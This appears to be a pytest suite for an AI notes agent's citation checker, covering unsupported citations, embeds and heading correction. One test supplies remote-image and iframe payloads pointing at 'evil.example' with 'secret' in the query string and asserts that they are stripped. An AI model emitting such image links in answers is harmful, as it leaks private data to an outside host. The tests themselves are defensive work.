"""The citation check: every [[link]] backed by a retrieved note, our Sources list, no remote
images. Pure functions over a small in-memory link graph."""

from __future__ import annotations

import time

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from vault_agent.agent.citations.checker import (
    check_answer,
)
from vault_agent.agent.citations.documents import strip_document_citations
from vault_agent.agent.citations.links import (
    NoteRef,
    find_citations,
    note_link,
)
from vault_agent.agent.citations.normalise import normalise_citations
from vault_agent.agent.safe_markdown import sanitise_markdown
from vault_agent.vault.graph import LinkGraph
from vault_agent.vault.markdown import scan_markdown

FILES = [
    "Recipes/Miso Soup.md",
    "Recipes/Sourdough Starter.md",
    "Projects/Garden/Ideas.md",
    "Projects/Tidepool/Ideas.md",
    "People/Maya Okafor.md",
    "Daily/2026-11-11.md",
]


@pytest.fixture
def graph() -> LinkGraph:
    graph = LinkGraph()
    for file in FILES:
        aliases = ["Maya"] if file.startswith("People/Maya") else []
        graph.set_file(file, aliases)
    return graph


def test_supported_citations_stay_and_become_the_sources(graph: LinkGraph) -> None:
    text = "Dashi first [[Miso Soup#Method]], fed Gus at 07:45 [[Daily/2026-11-11]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md", "Daily/2026-11-11.md"}, graph)
    assert checked.removed_citations == []
    assert checked.answer == (
        f"{text}\n\nSources:\n- [[Recipes/Miso Soup#Method]]\n- [[Daily/2026-11-11]]"
    )
    assert [(s.file, s.title, s.heading) for s in checked.sources] == [
        ("Recipes/Miso Soup.md", "Miso Soup", "Method"),
        ("Daily/2026-11-11.md", "2026-11-11", ""),
    ]


def test_unsupported_and_invented_citations_are_removed_and_reported(graph: LinkGraph) -> None:
    text = (
        "Soup [[Recipes/Miso Soup]]. Also [[Recipes/Chocolate Cake]] and "
        "([[People/Maya Okafor]], [[Nowhere]]). Ask [[Maya Okafor|Maya]] about it."
    )
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    first = checked.answer.split("\n\n")[0]
    assert first == "Soup [[Recipes/Miso Soup]]. Also. Ask Maya about it."
    assert [(r.citation, r.reason) for r in checked.removed_citations] == [
        ("[[Recipes/Chocolate Cake]]", "no note by that name in the vault"),
        ("[[People/Maya Okafor]]", "not among the notes retrieved for this answer"),
        ("[[Nowhere]]", "no note by that name in the vault"),
        ("[[Maya Okafor|Maya]]", "not among the notes retrieved for this answer"),
    ]
    assert [s.file for s in checked.sources] == ["Recipes/Miso Soup.md"]


def test_a_markdown_link_into_the_vault_cites_nothing_unchecked(graph: LinkGraph) -> None:
    # Found by an audit: `[x](Secrets/Passwords.md)` stayed a clickable link to a note that
    # does not exist (a click makes it), `[trip](Projects/Kyoto%20Trip.md)` to one never read.
    text = (
        "See [the soup](Recipes/Miso%20Soup.md), [x](Secrets/Passwords.md), "
        "[trip](<Projects/Kyoto Trip.md>), [that part](#Heading) and [docs](https://help.obsidian.md)."
    )
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert checked.answer.startswith(
        "See [[Recipes/Miso Soup|the soup]], x, trip, that part and [docs](https://help.obsidian.md)."
    ), checked.answer
    assert [ref.file for ref in checked.sources] == ["Recipes/Miso Soup.md"]


@pytest.mark.parametrize(
    "cited",
    [
        "[[Caf\u00e9 Menu]]",
        "(Caf\u00e9 Menu)",
        "[[Caf\u00e9 Menu.md]]",
        "[the menu](Recipes/Caf%C3%A9%20Menu.md)",
    ],
)
def test_a_note_named_decomposed_is_cited_by_its_composed_name(
    graph: LinkGraph, cited: str
) -> None:
    # Found by the file-system audit: a model writes "Café" composed (NFC); a note macOS
    # named decomposed was "no note by that name" and its citation removed (a wikilink), or
    # left as text (a title in parentheses), or made text (a markdown link).
    graph.set_file("Recipes/Cafe\u0301 Menu.md")
    checked = check_answer(f"Soup of the day {cited}.", {"Recipes/Cafe\u0301 Menu.md"}, graph)
    assert checked.removed_citations == []
    assert [ref.file for ref in checked.sources] == ["Recipes/Cafe\u0301 Menu.md"]


def test_an_ambiguous_name_is_rewritten_to_the_retrieved_note(graph: LinkGraph) -> None:
    # Obsidian would open Projects/Garden/Ideas (shortest path); the model read Tidepool's.
    supported = {"Projects/Tidepool/Ideas.md"}
    checked = check_answer("Alerting ideas [[Ideas#Alerting]].", supported, graph)
    assert checked.answer.startswith("Alerting ideas [[Projects/Tidepool/Ideas#Alerting]].")
    assert checked.sources[0].file == "Projects/Tidepool/Ideas.md"


def test_aliases_embeds_and_section_only_links(graph: LinkGraph) -> None:
    supported = {"People/Maya Okafor.md", "Recipes/Miso Soup.md"}
    text = "Ask [[Maya]]. ![[Miso Soup]] See [[#Method]]."
    checked = check_answer(text, supported, graph, source_file="Recipes/Miso Soup.md")
    # The embed would paste the whole note into the answer: it becomes a link.
    assert checked.answer.startswith("Ask [[Maya]]. [[Recipes/Miso Soup]] See [[#Method]].")
    assert [(s.file, s.heading) for s in checked.sources] == [
        ("People/Maya Okafor.md", ""),
        ("Recipes/Miso Soup.md", "Method"),
    ]


@pytest.mark.parametrize(
    "written",
    [
        "!![[Miso Soup]]",
        "!!![[Miso Soup]]",
        "!![[Miso Soup|the soup]]",
        "!![[Miso Soup#Method]]",
        "!![[Recipes/Miso Soup.md]]",
        "!<span title=x>[[Miso Soup]]",  # the tag goes, the "!" meets the link
        "![<span title=x>[[Miso Soup]]",
        "!<span title=x>[the soup](Recipes/Miso%20Soup.md)",
        "![the soup](Recipes/Miso%20Soup.md)",  # a markdown embed of the note
        "!![the soup](Recipes/Miso%20Soup.md)",
        "![chart](attachments/chart.png)",
    ],
)
def test_nothing_embeds_in_a_checked_answer_whatever_comes_before_a_link(
    graph: LinkGraph, written: str
) -> None:
    # Found by an audit: the embed became a link, but the "!" written before it made the link
    # an embed again (Obsidian would paste the note in, and load its remote images).
    checked = check_answer(f"Dashi first {written}.", {"Recipes/Miso Soup.md"}, graph)
    assert "![[" not in checked.answer, checked.answer
    assert not any(token.type == "image" for token in _inline_tokens(checked.answer))
    # Read as Obsidian reads it (wikilinks and markdown links alike): links, no embed.
    assert not any(link.embed for link in scan_markdown(checked.answer).links), checked.answer


def test_an_embed_quoted_as_code_stays_as_written() -> None:
    text = "Write `![[Note]]` to embed, or:\n\n```\n![[Note]]\n```\n\nnot !![[Note]]"
    safe = sanitise_markdown(text, embeds=False).markdown
    assert safe == "Write `![[Note]]` to embed, or:\n\n```\n![[Note]]\n```\n\nnot [[Note]]"


def _inline_tokens(markdown: str) -> list[Token]:
    """Every inline token markdown-it makes of ``markdown``, nested ones too."""
    found: list[Token] = []
    pending = [t for t in MarkdownIt("commonmark").parse(markdown) if t.children]
    while pending:
        for child in pending.pop().children or []:
            found.append(child)
            if child.children:
                pending.append(child)
    return found


def test_the_models_sources_list_is_replaced_by_ours(graph: LinkGraph) -> None:
    text = (
        "Fed at 07:45 [[Daily/2026-11-11]].\n\n**Sources:**\n"
        "- [[Daily/2026-11-11]]\n- [[Recipes/Sourdough Starter#Feeding schedule]]\n"
        "- [[Recipes/Chocolate Cake]]\n"
    )
    checked = check_answer(text, {"Daily/2026-11-11.md", "Recipes/Sourdough Starter.md"}, graph)
    assert checked.answer == (
        "Fed at 07:45 [[Daily/2026-11-11]].\n\nSources:\n- [[Daily/2026-11-11]]\n"
        "- [[Recipes/Sourdough Starter#Feeding schedule]]"
    )
    assert checked.answer.count("Sources:") == 1
    # An invented link in the model's own list is dropped quietly: it was never in the text.
    assert checked.removed_citations == []


def test_a_sources_line_followed_by_prose_is_not_stripped(graph: LinkGraph) -> None:
    text = "Sources: my notes disagree here.\nOne says 5 [[Miso Soup]], another 6."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert checked.answer.startswith(text)


def test_a_cited_section_is_reported_by_its_heading_path_when_known(graph: LinkGraph) -> None:
    seen = [NoteRef(file="Recipes/Miso Soup.md", title="Miso Soup", heading="Miso Soup > Method")]
    checked = check_answer("Dashi first [[Miso Soup#method]] and [[Nowhere]].", seen, graph)
    assert checked.answer.startswith("Dashi first [[Miso Soup#method]].\n\nSources:")
    assert checked.sources[0].heading == "Miso Soup > Method"
    assert checked.answer.endswith("- [[Recipes/Miso Soup#Method]]")


def test_one_source_per_note_preferring_a_cited_section(graph: LinkGraph) -> None:
    text = "A [[Miso Soup]]. B [[Miso Soup#Method]]. C [[Miso Soup#Serving]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert [(s.file, s.heading) for s in checked.sources] == [("Recipes/Miso Soup.md", "Method")]


def test_links_inside_code_are_not_citations(graph: LinkGraph) -> None:
    text = "Write `[[Nowhere]]` to link.\n\n```\n[[Also Nowhere]]\n```\nDone [[Miso Soup]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert checked.removed_citations == []
    assert "`[[Nowhere]]`" in checked.answer and "[[Also Nowhere]]" in checked.answer
    assert [c.target for c in find_citations(text)] == ["Miso Soup"]


def test_an_answer_without_citations_gets_no_sources_list(graph: LinkGraph) -> None:
    checked = check_answer("Your notes don't say.", set(), graph)
    assert checked.answer == "Your notes don't say." and checked.sources == []


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/c.png?q=secret)",
        "![x](//evil.example/c.png)",
        '![x](<https://evil.example/a b.png> "title")',
        '<img src="https://evil.example/p.gif?d=secret">',
        "<IMG SRC=http://evil.example/p.gif>",
        "<iframe src='https://evil.example'></iframe>",
    ],
)
def test_remote_images_are_stripped(graph: LinkGraph, image: str) -> None:
    checked = check_answer(f"Answer [[Miso Soup]]. {image}", {"Recipes/Miso Soup.md"}, graph)
    assert "evil.example" not in checked.answer
    assert checked.removed_images and checked.answer.startswith("Answer [[Miso Soup]].")


def test_reference_style_remote_images_are_stripped_local_ones_kept() -> None:
    text = "One ![pic][r] two ![local](attachments/photo.png) ![[photo.png]]\n\n[r]: https://evil.example/x.png\n"
    safe = sanitise_markdown(text)
    cleaned, removed = safe.markdown, safe.removed
    assert removed == ["https://evil.example/x.png"]
    assert "evil" not in cleaned
    assert "![local](attachments/photo.png)" in cleaned and "![[photo.png]]" in cleaned


def test_note_link_uses_the_last_heading_and_drops_unlinkable_characters() -> None:
    assert note_link("Recipes/Miso Soup.md") == "[[Recipes/Miso Soup]]"
    assert note_link("Recipes/Miso Soup.md", "Miso Soup > Method") == "[[Recipes/Miso Soup#Method]]"
    assert note_link("a.md", "Q&A: why | how") == "[[a#Q&A why how]]"


# --- citations written other ways ----------------------------------------------------------

MISO = NoteRef(file="Recipes/Miso Soup.md", title="Miso Soup", heading="Miso Soup > Method")
STARTER = NoteRef(file="Recipes/Sourdough Starter.md", title="Sourdough Starter")
DAILY = NoteRef(file="Daily/2026-11-11.md", title="2026-11-11")
SEEN = [MISO, STARTER, DAILY]


@pytest.mark.parametrize(
    ("written", "cited"),
    [
        ("Dashi first [1].", "Dashi first [[Recipes/Miso Soup#Method]]."),
        ("Dashi first [1][2].", "Dashi first [[Recipes/Miso Soup#Method]] [[Daily/2026-11-11]]."),
        ("Dashi first [1, 2].", "Dashi first [[Recipes/Miso Soup#Method]] [[Daily/2026-11-11]]."),
        ("Dashi first[^1].", "Dashi first[^1]."),  # after a word: left alone
        ("Dashi first [^1].", "Dashi first [[Recipes/Miso Soup#Method]]."),
        ("Dashi first (Miso Soup).", "Dashi first [[Recipes/Miso Soup]]."),
        ("Dashi first (Recipes/Miso Soup.md#Method).", "Dashi first [[Recipes/Miso Soup#Method]]."),
        (
            "Fed (Sourdough Starter; 2026-11-11).",
            "Fed [[Recipes/Sourdough Starter]] [[Daily/2026-11-11]].",
        ),
        ("Fed (source: Sourdough Starter).", "Fed [[Recipes/Sourdough Starter]]."),
        ("Dashi first [[Miso Soup.md#Method]].", "Dashi first [[Miso Soup#Method]]."),
        ("See [Miso Soup](Recipes/Miso%20Soup.md#Method).", "See [[Recipes/Miso Soup#Method]]."),
        ("See [the soup](<Miso Soup.md>).", "See [[Recipes/Miso Soup|the soup]]."),
    ],
)
def test_citations_written_other_ways_become_wikilinks(
    graph: LinkGraph, written: str, cited: str
) -> None:
    numbered = [[MISO, DAILY]]
    checked = check_answer(written, SEEN, graph, numbered=numbered)
    assert checked.answer.split("\n\nSources:")[0] == cited
    assert checked.removed_citations == []


@pytest.mark.parametrize(
    "written",
    [
        "Dashi first [3].",  # no passage 3
        "Dashi first (Chocolate Cake).",  # not a note the model saw
        "Dashi first (Miso Soup; a guess).",  # one part is no note: all left alone
        "Use `[1]` and `(Miso Soup)` in code:\n\n```\n[1] (Miso Soup)\n```",
        "See [Miso Soup](https://example.com/Miso%20Soup.md).",  # a web page
        "See [[Miso Soup (draft)]].",  # a wikilink is not opened up
        "x[1] and [1](https://example.com) and\n\n[1]: https://example.com",
    ],
)
def test_what_names_no_seen_note_is_left_as_written(graph: LinkGraph, written: str) -> None:
    checked = check_answer(written, SEEN, graph, numbered=[[MISO, DAILY]])
    body = checked.answer.split("\n\nSources:")[0]
    if "(draft)" in written:
        assert checked.removed_citations  # the checker's own business, unchanged
    else:
        assert body == written.split("\n\nSources:")[0]


def test_a_number_two_searches_disagree_on_is_left_alone(graph: LinkGraph) -> None:
    agreeing = [[MISO, DAILY], [MISO, STARTER]]
    checked = check_answer("Dashi [1], fed [2].", SEEN, graph, numbered=agreeing)
    assert checked.answer.startswith("Dashi [[Recipes/Miso Soup#Method]], fed [2].")


# --- headings that don't exist -------------------------------------------------------------

HEADINGS = {
    "Recipes/Miso Soup.md": ["Miso Soup", "Miso Soup > Method", "Miso Soup > Serving"],
    "Recipes/Sourdough Starter.md": ["Sourdough Starter", "Sourdough Starter > Feeding schedule"],
}


def headings_of(file: str) -> list[str] | None:
    return HEADINGS.get(file)


def test_a_heading_the_note_lacks_is_corrected_to_the_note(graph: LinkGraph) -> None:
    text = "Add tofu [[Miso Soup#Garnish]] and feed [[Sourdough Starter#Feeding]]."
    checked = check_answer(text, SEEN, graph, headings=headings_of)
    assert checked.answer == (
        "Add tofu [[Recipes/Miso Soup]] and feed [[Recipes/Sourdough Starter]].\n\n"
        "Sources:\n- [[Recipes/Miso Soup]]\n- [[Recipes/Sourdough Starter]]"
    )
    assert checked.removed_citations == []  # corrected, not removed: the note is the source
    assert [(c.citation, c.corrected) for c in checked.corrected_citations] == [
        ("[[Miso Soup#Garnish]]", "[[Recipes/Miso Soup]]"),
        ("[[Sourdough Starter#Feeding]]", "[[Recipes/Sourdough Starter]]"),
    ]
    assert "no heading 'Garnish'" in checked.corrected_citations[0].reason


def test_a_heading_spelt_another_way_is_corrected_to_the_heading(graph: LinkGraph) -> None:
    checked = check_answer(
        "Feed daily [[Sourdough Starter#feeding-schedule|daily]].",
        SEEN,
        graph,
        headings=headings_of,
    )
    assert checked.answer.startswith(
        "Feed daily [[Recipes/Sourdough Starter#Feeding schedule|daily]]."
    )
    assert checked.sources[0].heading == "Sourdough Starter > Feeding schedule"


def test_real_and_seen_headings_stay_and_unknown_notes_are_not_judged(graph: LinkGraph) -> None:
    text = "A [[Miso Soup#serving]]. B [[Miso Soup#method]]. C [[2026-11-11#Morning]]."
    checked = check_answer(text, SEEN, graph, headings=headings_of)
    assert checked.answer.startswith(text)  # case aside, real; no headings known for the daily
    assert checked.corrected_citations == []


@pytest.mark.parametrize("text", ["[a](<" * 8_000, "[a](<http://" * 3_300])
def test_a_long_run_of_open_link_destinations_is_read_in_linear_time(text: str) -> None:
    """Found by the complexity audit: an angle-bracket destination was read to the line's end
    from each "<" (1.1 s for a 40,000-character answer, the longest a model may write)."""
    seen = [NoteRef(file="Recipes/Miso Soup.md", title="Miso Soup")]
    started = time.thread_time()
    assert normalise_citations(text, seen) == text
    strip_document_citations(text)
    assert time.thread_time() - started < 0.3
